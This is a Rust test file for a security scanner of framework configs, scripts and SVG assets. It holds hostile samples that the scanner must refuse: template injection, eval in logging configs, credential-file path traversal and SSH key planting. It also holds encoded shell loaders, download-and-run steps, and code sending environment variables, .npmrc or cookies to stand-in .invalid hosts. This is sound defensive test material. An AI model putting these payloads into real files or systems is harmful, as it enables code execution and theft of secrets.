//! Keys of frameworks, tools that evaluate, and what only looks like harm.

mod told;

#[test]
fn names_and_templates_are_judged_whatever_their_keys() {
    told::all_refused(&[
        ("lora.yaml", "metric_logger:\n  _component_: os.system\n  command: echo inert\n"),
        ("a.yaml", "x:\n  $type: subprocess.run\n"),
        ("a.yaml", "x:\n  _class_: 'os:system'\n"),
        ("a.json", r#"{"x": {"creator": "builtins.exec", "args": ["1"]}}"#),
        ("a.toml", "[x]\nbuilder = \"subprocess.Popen\"\n"),
        ("a.yaml", "x:\n  module: os\n  class_name: system\n"),
        (
            "pipeline.yaml",
            "components:\n  router:\n    init_parameters:\n      routes:\n      - condition: '{{ q }}'\n        output: '{{ q.__class__.__mro__[1].__subclasses__() }}'\n",
        ),
        ("a.json", r#"{"steps": {"when": "{{ cycler.__init__.__globals__.os.popen('id') }}"}}"#),
        (
            "chain.json",
            r#"{"lc": 1, "type": "constructor", "id": ["langchain", "ChatOpenAI"], "kwargs": {"openai_api_base": "https://x.invalid/v1", "default_headers": {"x": {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}}}}"#,
        ),
        (
            "logging.ini",
            "[handlers]\nkeys=a\n[handler_a]\nclass=FileHandler\nargs=(__import__('os').popen('echo inert').read(), 'a')\n",
        ),
        (
            "logging.conf",
            "[handlers]\nkeys=a\n[handler_a]\nclass=os.system\nargs=('echo inert',)\n",
        ),
        (
            "logging.conf",
            "[handlers]\nkeys=a\n[handler_a]\nclass=StreamHandler\nkwargs={'stream':\n  eval('1')}\n",
        ),
        ("data/dataset_info.json", r#"{"a": {"file_name": "../../../../root/.aws/credentials"}}"#),
        ("a.yaml", "datasets:\n- path: json\n  data_files: /etc/passwd\n"),
        ("a.yaml", "train_file: file:///proc/self/environ\n"),
        (
            "cluster.yaml",
            "setup_commands:\n- echo 'ssh-ed25519 AAAAC3Nz x' >> ~/.ssh/authorized_keys\n",
        ),
    ]);
    told::none_refused(&[
        (
            "lora.yaml",
            "model:\n  _component_: torchtune.models.llama3.llama3\noptimizer:\n  _component_: torch.optim.AdamW\n  lr: 1e-4\nloss:\n  _component_: torch.nn.CrossEntropyLoss\n",
        ),
        (
            "rules.yaml",
            "rules:\n- pattern: os.system\n  message: subprocess.run\n- name: os.system\n",
        ),
        (
            "rules.json",
            r#"{"blocked": ["os.system", "subprocess.run"], "denied_call": "os.system"}"#,
        ),
        ("prompt.yaml", "template: \"{{ q | replace('__class__', '') }}\"\n"),
        ("a.yaml", "on: '${{ github.event_name }}'\nx: '{{ this.name }}__v1'\n"),
        (
            "logging.ini",
            "[handlers]\nkeys=a,b\n[handler_a]\nclass=StreamHandler\nargs=(sys.stdout,)\n[handler_b]\nclass=handlers.RotatingFileHandler\nargs=(os.environ.get('LOG', 'serve.log'), 'a', 10*1024*1024, 5)\nkwargs={'delay': True}\n",
        ),
        ("data/dataset_info.json", r#"{"a": {"file_name": "../shared/a.json"}}"#),
        (
            "rows.jsonl",
            "{\"prompt\": \"x\", \"completion\": \"{{ ''.__class__.__mro__ }}\", \"file_name\": \"/etc/passwd\", \"call\": \"os.system\"}\n",
        ),
        (
            "pkg-1.0/pkg/sandbox/site/sitecustomize.py",
            "import os\n_mkdir = os.mkdir\ndef f(p):\n    return _mkdir(p)\nos.mkdir = f\n",
        ),
        ("a.yaml", "credentials_file: ~/.aws/credentials\nssh_key: ~/.ssh/id_rsa\n"),
        ("cluster.yaml", "setup_commands:\n- echo 'export PATH=\"$HOME/x:$PATH\"' >> ~/.bashrc\n"),
    ]);
}

#[test]
fn programs_that_hide_or_fetch_what_they_run_are_refused() {
    told::all_refused(&[
        ("dvc.yaml", r#"stages: {a: {cmd: 'sh -c "$(printf ''%b'' ''\143\165\162\154'')"'}}"#),
        ("a.sh", "echo 'phey' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh\n"),
        ("a.sh", "bash -c \"$(echo MFRGG | base32 -d)\"\n"),
        ("a.sh", "bash -c $'\\x65\\x63\\x68\\x6f'\n"),
        ("a.sh", "bash <(echo 'hs' | rev)\n"),
        ("a.sh", "sh -c \"$(perl -e 'print pack(\"H*\",\"6563\")')\"\n"),
        (
            "lib/setup.js",
            "const _0x=['Y2hpbGRfcHJvY2Vzcw=='].map(s=>Buffer.from(s,'base64')+'');\nrequire(_0x[0]);\n",
        ),
        ("a.js", "require('child_' + 'process').exec('x')\n"),
        ("a.js", "new Function( atob('YQ==') )()\n"),
        (
            "a.js",
            "const https=require('https');\nhttps.request({hostname:'x.invalid'}).end(JSON.stringify(process.env))\n",
        ),
        (
            "deps/build.jl",
            "using Downloads\nf = Downloads.download(\"http://x.invalid/b\", tempname())\nchmod(f, 0o755)\nrun(detach(`$f`); wait=false)\n",
        ),
        ("a.jl", "include(download(\"https://x.invalid/a.jl\"))\n"),
        (
            "a.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"new Image().src='https://s.invalid/?c='+encodeURIComponent(document.cookie)\"></svg>",
        ),
        (
            "a.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://s.invalid/',{method:'POST',body:document.cookie})</script></svg>",
        ),
        ("a.sh", "perl -e 'system(pack(\"H*\",\"6563\"))'\n"),
        (
            "a.js",
            "const h=require('https');const d=require('fs').readFileSync(home+'/.npmrc');\nh.request({host:'x.invalid'}).end(d)\n",
        ),
        ("a.sh", "say() { eval \"$1\"; }\nsay \"curl http://x.invalid/a | sh\"\n"),
    ]);
    told::none_refused(&[
        ("a.js", "const cp = require('child_process');\ncp.execSync('npm run build');\n"),
        (
            "webpack.config.js",
            "new webpack.DefinePlugin({'process.env': JSON.stringify(process.env)});\nfetch('https://x.org')\n",
        ),
        (
            "deps/build.jl",
            "using Downloads\nf = Downloads.download(\"https://x.org/b.tar.gz\", \"b.tar.gz\")\nrun(`tar xzf $f`)\nrun(`make`)\ninclude(\"deps.jl\")\n",
        ),
        ("a.sh", "profile=\"$(ls ~/.bash_profile ~/.profile 2>/dev/null | head -n1)\"\n"),
        ("a.sh", "echo 'eval \"$(rbenv init -)\"' >> ~/.profile\n"),
        (
            "a.sh",
            "substep() { printf '%s' \"$1\"; }\nsubstep \"curl -fsSL https://x.ai/a.sh | sh\"\n",
        ),
        (
            "a.ps1",
            "Write-StudioLine \"irm https://x.ai/install.ps1 | iex\" -ForegroundColor Yellow\n",
        ),
        ("a.ps1", "Invoke-WebRequest https://astral.sh/uv/install.ps1 | Invoke-Expression\n"),
        ("Modelfile", "FROM ./a.gguf\nSYSTEM Never run rm -rf / or curl http://x | sh.\n"),
        ("a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"init()\"></svg>"),
    ]);
}
